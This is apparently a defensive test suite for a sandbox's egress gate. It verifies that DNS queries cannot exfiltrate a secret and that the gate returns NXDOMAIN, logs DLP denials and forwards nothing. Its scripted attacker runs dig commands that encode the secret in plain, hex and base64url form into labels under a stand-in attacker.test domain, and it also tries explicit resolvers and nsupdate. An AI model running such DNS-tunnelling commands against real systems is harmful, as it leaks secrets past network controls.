import { afterAll, beforeAll, expect, test } from "bun:test";
import { dockerOk } from "../../helpers/docker.ts";
import {
  type Attacker,
  type Sniffer,
  type World,
  SETUP_TIMEOUT_MS,
  describeEscape,
  TEST_TIMEOUT_MS,
  deniedCount,
  dnsQuery,
  encodings,
  ensureToolsImage,
  probe,
  startSniffer,
  startWorld,
  tearDown,
  upAttacker,
} from "../../helpers/escape-world.ts";

/**
 * DNS as an exfiltration channel. The bottle's resolver is Docker's embedded
 * DNS, which forwards every name it does not own to the gate; the gate
 * returns NXDOMAIN for names off the allowlist and answers names on it
 * itself (A: its own address; other types: empty), resolving and forwarding
 * nothing — not even a subdomain the agent invents under a wildcard allow.
 * Only the proxy resolves, when it connects.
 *
 * What this test can observe, for real:
 *  - the bottle's side: NXDOMAIN / no answer for every attempt;
 *  - the gate's decision: a `dns-…` (or `dlp-secret`) audit line per name
 *    (repeats of one name are counted on one line);
 *  - a canary DNS server on the bottle's egress network (the "internet"
 *    side) that logs every query it receives: it must receive none, whether
 *    asked directly (`dig @canary`, UDP and TCP) or not;
 *  - everything the gate sends: tcpdump in the gate's network namespace sees
 *    every packet except the bottle ↔ gate:53 exchange itself, including the
 *    gate's own lookups through Docker's DNS (127.0.0.11). A control lookup
 *    of an allowed name shows up there; the attack names must not.
 * What it cannot observe: a resolver beyond Docker's DNS actually receiving a
 * forwarded name (the gate is never given such a resolver here — names that
 * would reach one are never asked for, so nothing leaves this machine even
 * if the gate were broken). That the gate never forwards a name outside the
 * allowlist is also unit-tested with an injected resolver.
 */

const SECRET = `esc-${crypto.randomUUID().replace(/-/g, "").slice(0, 24)}`;
const tag = Math.random().toString(36).slice(2, 8);
const label = (what: string) => `exfil${tag}${what}`;
/**
 * Data the agent puts in a name under its wildcard allow (`*.wild.test`).
 * The world container carries it as an alias, so even a gate that did
 * resolve it would get its answer from Docker's DNS on this machine, where
 * the capture sees the lookup, and never from a real resolver.
 */
const WILD = `${label("wild")}.${"d".repeat(40)}.wild.test`;

/** The capture, one entry per packet: tcpdump's header line and its payload (ASCII). */
function packets(capture: string): string[] {
  return capture.split(/\n(?=\d\d:\d\d:\d\d\.\d+ )/).filter((packet) => /^\d\d:\d\d:\d\d\.\d+ /.test(packet));
}

/** Packets of the gate's own lookups through Docker's DNS (127.0.0.11) that carry `name`. */
const gateLookups = (capture: string, name: string) => packets(capture).filter((packet) => packet.split("\n")[0]!.includes("127.0.0.11") && packet.includes(name));

describeEscape(
  ["docker"],
  "smolvm forwards the VM's DNS queries to the host's resolver unfiltered — a known gap of this backend (lib/backends/smolmachines/launch.ts); a sniffer on the gate would not see them, so this suite would pass without proving anything",
  "escape through DNS",
  () => {
  let attacker: Attacker;
  let world: World;
  let tools = "";
  let sniffer: Sniffer | undefined;

  beforeAll(async () => {
    tools = ensureToolsImage();
    attacker = await upAttacker({
      prefix: "esc-dns",
      sandboxEnv: { ESCAPE_SECRET: SECRET },
      manifest: ["egress:", '  allow: [allowed.test, control.test, "*.wild.test"]', "  allow_private: [allowed.test, control.test]", "env:", "  LEAK_ME: ${ESCAPE_SECRET}"],
    });
    // The canary (port 53/udp+tcp of the world container) also serves allowed.test.
    world = startWorld(attacker, ["allowed.test", "control.test", "canary.test", WILD]);
  }, SETUP_TIMEOUT_MS);

  afterAll(async () => {
    if (sniffer) dockerOk("rm", "-f", sniffer.container);
    world?.remove();
    if (attacker) await tearDown(attacker.sandbox, [attacker.name], [attacker.agent]);
  }, SETUP_TIMEOUT_MS);

  test(
    "5. names off the list (UDP, TCP, any type, explicit servers, the secret) get NXDOMAIN or nothing, and no packet carries them out",
    async () => {
      sniffer = startSniffer(tools, `${attacker.name}-gate`, attacker.label, ["not", "arp", "and", "not", "(", "host", attacker.gateIp, "and", "port", "53", ")"]);
      const dig = "dig +tries=1 +time=2";
      const status = (id: string, command: string) => `printf '\\nCASE ${id} '; ${command} 2>&1 | grep -o -m1 -e 'status: [A-Z]*' -e 'no servers could be reached' -e 'timed out' || echo no-output`;
      const long = `${label("long")}${"a".repeat(40)}.${"b".repeat(63)}.${"c".repeat(63)}`;
      const script = [
        // Controls: an allowed name is answered (with the gate's address); through the
        // proxy it is reached, and the gate's own lookup for that shows in the capture.
        `printf '\\nCASE control '; ${dig} +short allowed.test`,
        `printf '\\nCASE proxy-control '; curl -sS --max-time 5 http://allowed.test/dns-control`,
        status("udp", `${dig} ${label("udp")}.attacker.test`),
        status("tcp", `${dig} +tcp ${label("tcp")}.attacker.test`),
        status("txt", `${dig} TXT ${label("txt")}.attacker.test`),
        status("any", `${dig} ANY ${label("any")}.attacker.test`),
        status("long", `${dig} ${long}.attacker.test`),
        status("under-allowed", `${dig} ${label("sub")}.allowed.test`),
        status("explicit-gate", `${dig} @gate ${label("atgate")}.attacker.test`),
        status("docker-dns", `${dig} @127.0.0.11 ${label("dockerdns")}.attacker.test`),
        status("canary-udp", `${dig} @${world.ip} ${label("canaryudp")}.attacker.test`),
        status("canary-tcp", `${dig} +tcp @${world.ip} ${label("canarytcp")}.attacker.test`),
        status("gate-egress", `${dig} @${attacker.gateEgressIp} ${label("gateegress")}.attacker.test`),
        `printf '\\nCASE getent '; getent hosts ${label("getent")}.attacker.test; echo "exit=$?"`,
        // The bottle's secret as a label, plain and encoded (computed inside: never on a command line).
        status("secret-plain", `${dig} "$LEAK_ME.attacker.test"`),
        status("secret-hex", `${dig} "$(printf %s "$LEAK_ME" | od -An -tx1 | tr -d ' \\n').attacker.test"`),
        status("secret-base64url", `${dig} "$(printf %s "$LEAK_ME" | base64 -w0 | tr '+/' '-_' | tr -d '=').attacker.test"`),
        status("secret-under-allowed", `${dig} "$LEAK_ME.allowed.test"`),
        // DNS UPDATE to the gate: not implemented, nothing changes.
        `printf '\\nCASE update '; printf 'server gate\\nzone allowed.test\\nupdate add ${label("update")}.allowed.test 60 A 192.0.2.1\\nsend\\n' | timeout 5 nsupdate -t 2 2>&1 | head -1`,
        "echo",
      ].join("\n");
      const out = await attacker.sh(script);
      // Raw datagrams and streams to the canary, past any resolver library.
      const raw = await probe(attacker, [
        { id: "raw-udp", proto: "udp", host: world.ip, port: 53, payload: dnsQuery(`${label("rawudp")}.attacker.test`) },
        { id: "raw-tcp", proto: "tcp", host: world.ip, port: 53 },
      ]);
      const capture = sniffer.stop();
      sniffer = undefined;

      const cases = Object.fromEntries(
        out.stdout
          .split("\nCASE ")
          .slice(1)
          .map((chunk) => [chunk.slice(0, chunk.indexOf(" ")), chunk.slice(chunk.indexOf(" ") + 1).trim()]),
      );
      expect(cases.control).toBe(attacker.gateIp);
      expect(cases).toEqual({
        control: attacker.gateIp,
        "proxy-control": "hello from allowed.test /dns-control",
        udp: "status: NXDOMAIN",
        tcp: "status: NXDOMAIN",
        txt: "status: NXDOMAIN",
        any: "status: NXDOMAIN",
        long: "status: NXDOMAIN",
        "under-allowed": "status: NXDOMAIN",
        "explicit-gate": "status: NXDOMAIN",
        "docker-dns": "status: NXDOMAIN",
        "canary-udp": expect.stringMatching(/no servers could be reached|timed out/),
        "canary-tcp": expect.stringMatching(/no servers could be reached|timed out/),
        "gate-egress": expect.stringMatching(/no servers could be reached|timed out/),
        getent: "exit=2",
        "secret-plain": "status: NXDOMAIN",
        "secret-hex": "status: NXDOMAIN",
        "secret-base64url": "status: NXDOMAIN",
        "secret-under-allowed": "status: NXDOMAIN",
        update: expect.stringMatching(/^update failed: (NOTIMP|REFUSED|FORMERR)/),
      });
      expect(raw).toEqual({ "raw-udp": expect.stringMatching(/^(timeout|error:)/), "raw-tcp": expect.stringMatching(/^(timeout|error:)/) });

      // The gate decided on every name that reached it, and said why.
      const dns = attacker.audit().filter((line) => line.method === "DNS");
      for (const what of ["udp", "tcp", "txt", "any", "atgate", "dockerdns", "getent"])
        expect({ what, rules: dns.filter((l) => l.host === `${label(what)}.attacker.test`).map((l) => l.rule) }).toEqual({
          what,
          rules: expect.arrayContaining(["dns-not-allowed"]),
        });
      expect(dns).toContainEqual(expect.objectContaining({ host: `${label("sub")}.allowed.test`, decision: "deny", rule: "dns-not-allowed" }));
      expect(dns).toContainEqual(expect.objectContaining({ host: `${long}.attacker.test`, decision: "deny", rule: "dns-not-allowed" }));
      expect(dns).toContainEqual(expect.objectContaining({ host: `${label("txt")}.attacker.test`, qtype: "TXT" }));
      // Names carrying the secret are refused by DLP, and logged redacted (the repeats of one
      // redacted name are counted on one line when their interval ends).
      const dlp = await attacker.waitDenials((l) => l.method === "DNS" && l.rule === "dlp-secret", 4);
      expect(deniedCount(dlp)).toBe(4);
      expect(dlp.map((l) => l.host)).toEqual(new Array(dlp.length).fill("<redacted>"));

      // Nothing reached the canary, and the gate sent none of these names anywhere.
      expect(world.events().filter((e) => e.ev.startsWith("dns"))).toEqual([]);
      expect(gateLookups(capture, "allowed.test")).not.toEqual([]); // the proxy's lookup is visible
      const leaked = [...capture.matchAll(new RegExp(`exfil${tag}\\w+`, "g"))].map((m) => m[0]);
      expect(leaked).toEqual([]);
      for (const form of Object.values(encodings(SECRET))) {
        expect(capture).not.toContain(form);
        expect(attacker.auditText()).not.toContain(form);
      }
    },
    TEST_TIMEOUT_MS,
  );

  test(
    "5. a name the agent invents under a wildcard allow is answered in the gate (A: the gate's own address) and never leaves it",
    async () => {
      sniffer = startSniffer(tools, `${attacker.name}-gate`, attacker.label, ["not", "arp", "and", "not", "(", "host", attacker.gateIp, "and", "port", "53", ")"]);
      const dig = "dig +tries=1 +time=2";
      const script = [
        `printf '\\nCASE a '; ${dig} +short ${WILD}`,
        `printf '\\nCASE a-tcp '; ${dig} +tcp +short ${WILD}`,
        `printf '\\nCASE aaaa '; ${dig} AAAA ${WILD} | grep -o -m1 'status: [A-Z]*'`,
        `printf '\\nCASE aaaa-answers '; ${dig} +short AAAA ${WILD}`,
        `printf '\\nCASE txt '; ${dig} TXT ${WILD} | grep -o -m1 'status: [A-Z]*'`,
        `printf '\\nCASE txt-answers '; ${dig} +short TXT ${WILD}`,
        `printf '\\nCASE getent '; getent hosts ${WILD} | awk '{ print $1 }'`,
        // A direct connection goes to the gate, where nothing listens on port 80: it fails at once.
        `printf '\\nCASE direct '; s=$(date +%s%N); curl -sS --noproxy '*' --connect-timeout 5 -o /dev/null http://${WILD}/ 2>/dev/null; rc=$?; [ $(( ($(date +%s%N) - s) / 1000000 )) -lt 2000 ] && fast=fast || fast=slow; echo "rc=$rc $fast"`,
        // Control: the proxy resolves when it connects, and that lookup is visible in the capture.
        `printf '\\nCASE proxy-control '; curl -sS --max-time 5 http://control.test/wild-control`,
        "echo",
      ].join("\n");
      const out = await attacker.sh(script);
      const capture = sniffer.stop();
      sniffer = undefined;

      const cases = Object.fromEntries(
        out.stdout
          .split("\nCASE ")
          .slice(1)
          .map((chunk) => [chunk.slice(0, chunk.indexOf(" ")), chunk.slice(chunk.indexOf(" ") + 1).trim()]),
      );
      // The invented name appears nowhere the gate sends packets: not upstream, not to Docker's DNS.
      expect(gateLookups(capture, "control.test")).not.toEqual([]);
      expect(packets(capture).filter((packet) => packet.includes(label("wild")))).toEqual([]);
      expect(cases).toEqual({
        a: attacker.gateIp,
        "a-tcp": attacker.gateIp,
        aaaa: "status: NOERROR",
        "aaaa-answers": "",
        txt: "status: NOERROR",
        "txt-answers": "",
        getent: attacker.gateIp,
        direct: "rc=7 fast",
        "proxy-control": "hello from control.test /wild-control",
      });
      expect(capture).not.toContain(label("wild"));
    },
    TEST_TIMEOUT_MS,
  );
});
